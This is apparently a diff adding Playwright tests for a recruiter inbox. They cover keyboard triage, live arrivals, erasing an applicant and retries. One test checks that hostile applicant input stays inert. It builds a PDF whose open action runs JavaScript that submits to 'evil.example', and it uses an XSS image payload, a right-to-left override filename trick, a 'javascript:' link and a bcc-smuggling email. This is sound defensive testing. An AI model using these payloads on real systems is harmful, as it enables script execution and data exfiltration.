@@ -1,0 +1,164 @@
+import type { Page } from '@playwright/test';
+import { FLAG, STAGE } from '../../operator/desk/page/meanings.ts';
+import { DOCUMENTS, ERASE, FIGURES, LIST, RECORD, SHELL } from '../../operator/desk/page/words.ts';
+import { docxOf, pdfWith } from '../fixtures/documents.ts';
+import { attemptAll, fieldsOf, save } from '../fixtures/records.ts';
+import { storedFile } from '../fixtures/submissions.ts';
+import { arrive, expect, keep, test } from './desk.ts';
+
+/** Longer than a submission has to stand open before it counts as seen. */
+const A_MOMENT_MS = 2000;
+
+/** Of the list itself: the same person's other submissions are links too. */
+const rows = (page: Page) => page.locator('[aria-posinset]').getByRole('link');
+const record = (page: Page) => page.getByRole('article', { name: RECORD.label });
+const stageOf = (page: Page) => record(page).getByRole('radio', { checked: true });
+
+/** Bytes of a PDF that asks for a script as it opens, at once and by a form's field. */
+function scriptedPdf(): Uint8Array {
+  const script =
+    '<< /S /JavaScript /JS (app.alert("ran"); this.submitForm("http://evil.example/");) >>';
+  return pdfWith([
+    `<< /Type /Catalog /Pages 2 0 R /OpenAction ${script} /AA << /WC ${script} >> >>`,
+    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
+    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /AA << /O ${script} >> /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>`,
+    '<< /Length 42 >>\nstream\nBT /F1 18 Tf 20 100 Td (Hello desk) Tj ET  \nendstream',
+    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
+  ]);
+}
+
+test('a recruiter goes through the inbox by keyboard: reads, marks, notes, finds, undoes', async ({
+  page,
+  desk,
+}) => {
+  await page.clock.install();
+  const receipts: string[] = [];
+  for (const name of ['Ada', 'Bea', 'Cyd']) receipts.unshift(await arrive(desk, name));
+  await expect(rows(page)).toHaveCount(3);
+
+  await page.keyboard.press('j');
+  await page.keyboard.press('j');
+  await expect(record(page).getByRole('heading', { level: 1 })).toHaveText('Bea Lovelace');
+  await expect(page).toHaveURL(new RegExp(`#/inbox/${receipts[1]}$`));
+  await page.clock.runFor(A_MOMENT_MS);
+  await expect(stageOf(page)).toHaveAccessibleName(STAGE.seen);
+  const stages = () =>
+    Promise.all(
+      receipts.map(async (receipt) => (await desk.test.store.records.record(receipt))?.stage),
+    );
+  await expect.poll(stages).toEqual(['new', 'seen', 'new']);
+
+  await page.keyboard.press('3');
+  await expect(page.getByText(RECORD.staged(STAGE['in-talks']))).toBeVisible();
+  await expect.poll(stages).toEqual(['new', 'in-talks', 'new']);
+  await page.keyboard.press('u');
+  await expect.poll(stages).toEqual(['new', 'seen', 'new']);
+
+  await page.keyboard.press('n');
+  await page.keyboard.type('Call her on Monday');
+  await page.keyboard.press('Escape');
+  await expect(page.getByText(RECORD.noteSaved)).toBeVisible();
+
+  await page.keyboard.press('/');
+  await page.keyboard.type('monday');
+  await page.clock.runFor(A_MOMENT_MS);
+  await expect(rows(page)).toHaveCount(1);
+  await page.keyboard.press('Escape');
+  await page.keyboard.press('Escape');
+  await page.clock.runFor(A_MOMENT_MS);
+  await expect(rows(page)).toHaveCount(3);
+
+  await page.keyboard.press('g');
+  await page.keyboard.press('p');
+  await expect(page.getByRole('heading', { name: FIGURES.title })).toBeVisible();
+  await page.goBack();
+  await expect(record(page).getByRole('heading', { level: 1 })).toHaveText('Bea Lovelace');
+  await page.keyboard.press('?');
+  await expect(page.getByRole('dialog')).toBeVisible();
+});
+
+test('new submissions appear while a recruiter looks, and move nothing that is being read', async ({
+  page,
+  desk,
+}) => {
+  await expect(page.getByText(LIST.empty.inbox.title)).toBeVisible();
+  for (let index = 0; index < 30; index++) await arrive(desk, `Ada${index}`);
+  await expect(page.getByText('Ada29 Lovelace')).toBeVisible();
+
+  const read = page.getByRole('link', { name: /Ada15 / });
+  const list = page.getByRole('list').filter({ has: page.getByRole('link', { name: /Lovelace/ }) });
+  await list.locator('..').evaluate((element) => element.scrollTo(0, 12 * 88));
+  await expect(read).toBeInViewport();
+  const before = await read.boundingBox();
+  for (const name of ['Eve', 'Fay', 'Gil']) await arrive(desk, name);
+  await page.getByRole('button', { name: LIST.arrived(3) }).waitFor();
+  expect(await read.boundingBox()).toEqual(before);
+
+  await page.getByRole('button', { name: LIST.arrived(3) }).click();
+  await expect(page.getByText('Gil Lovelace')).toBeInViewport();
+});
+
+test('what a visitor wrote stays text, and his documents do nothing', async ({ page, desk }) => {
+  const files = [
+    await keep(desk, scriptedPdf(), { flags: ['active-content'] }),
+    await keep(desk, docxOf('Nine years of shaders'), { kind: 'docx', name: 'cv.docx' }),
+  ];
+  const firstname = '<img src=x onerror=alert(1)>\u202Efdp.';
+  const linkedin = 'javascript:alert(1)';
+  const fields = fieldsOf('jobseeking', {
+    firstname,
+    linkedin,
+    email: 'a@b.co?bcc=x@evil.example',
+  });
+  const receipt = await save(desk.test, { fields, files });
+  page.on('dialog', () => expect(page.url()).toBe('no dialog'));
+
+  await page.goto(`/#/inbox/${receipt}`);
+  await expect(record(page).getByRole('heading', { level: 1 })).toHaveText(
+    `${firstname.replace('\u202E', '')} Lovelace`,
+  );
+  await expect(record(page).getByText(linkedin)).toBeVisible();
+  await expect(record(page).locator('a[href^="javascript"], a[href^="mailto"]')).toHaveCount(0);
+  await expect(record(page).getByText('Hello desk')).toBeAttached();
+  await expect(record(page).getByText(FLAG['active-content'])).toBeVisible();
+  await record(page).getByRole('button', { name: 'cv.docx' }).click();
+  const text = page.frameLocator(`iframe[title="${DOCUMENTS.frame('cv.docx')}"]`);
+  await expect(text.getByText('Nine years of shaders')).toBeVisible();
+});
+
+test('a person is erased once what goes was read', async ({ page, desk }) => {
+  const mine = [await arrive(desk, 'Ada'), await arrive(desk, 'Ada', { files: [storedFile(0)] })];
+  await attemptAll(desk.test, 'deliver');
+  const other = await arrive(desk, 'Bea', {
+    fields: fieldsOf('jobseeking', { firstname: 'Bea', email: 'bea@example.com', phone: '' }),
+  });
+  await page.goto(`/#/inbox/${mine[0]}`);
+  await record(page).getByRole('button', { name: RECORD.erase }).click();
+  const dialog = page.getByRole('dialog', { name: ERASE.title });
+  for (const receipt of mine) await expect(dialog.getByText(receipt)).toBeVisible();
+  await expect(dialog.getByText(storedFile(0).name)).toBeVisible();
+  await expect(dialog.getByText(other)).toHaveCount(0);
+  const go = dialog.getByRole('button', { name: ERASE.go(2) });
+  await expect(go).toBeDisabled();
+  await dialog.getByLabel(ERASE.confirm).check();
+  await go.click();
+  await expect(page.getByText(ERASE.done(2, 1))).toBeVisible();
+  await expect(rows(page)).toHaveCount(1);
+});
+
+test('suspects are released and dead letters tried again', async ({ page, desk }) => {
+  await arrive(desk, 'Ada');
+  await attemptAll(desk.test, 'bury');
+  await arrive(desk, 'Bea', { suspicion: ['honeypot'] });
+  await page.goto('/#/suspects');
+  await expect(rows(page)).toHaveCount(1);
+  await page.keyboard.press('j');
+  await record(page).getByRole('button', { name: RECORD.release }).click();
+  await expect(page.getByText(LIST.empty.suspects.title)).toBeVisible();
+  await page.getByRole('button', { name: SHELL.undo }).click();
+  await expect(rows(page)).toHaveCount(1);
+
+  await page.goto('/#/failed');
+  await page.getByRole('button', { name: LIST.retryAll }).click();
+  await expect(page.getByText(LIST.empty.failed.title)).toBeVisible();
+});
